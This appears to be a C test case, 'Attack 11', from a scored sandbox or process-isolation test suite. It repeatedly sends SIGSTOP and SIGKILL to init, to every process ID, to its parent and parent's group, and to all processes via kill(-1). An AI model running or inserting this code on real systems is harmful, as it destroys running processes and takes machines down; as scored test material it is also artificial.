/* Attack 11: listens, then kills whatever it can see, its parent and pid 1 before all. */
/* Points: 0-15 */
#include "honest.h"

#include <signal.h>
#include <sys/types.h>

int main(int argc, char *argv[])
{
    int listener = honest_listen(argc, argv);
    for (int pass = 0; pass < 3; pass++) {
        kill(1, SIGSTOP);
        kill(1, SIGKILL);
        for (pid_t pid = 2; pid < 32768; pid++)
            if (pid != getpid())
                kill(pid, pass == 0 ? SIGSTOP : SIGKILL);
        kill(getppid(), SIGKILL);
        kill(-getppid(), SIGKILL);
        kill(-1, SIGKILL);
    }
    honest_serve(listener);
}
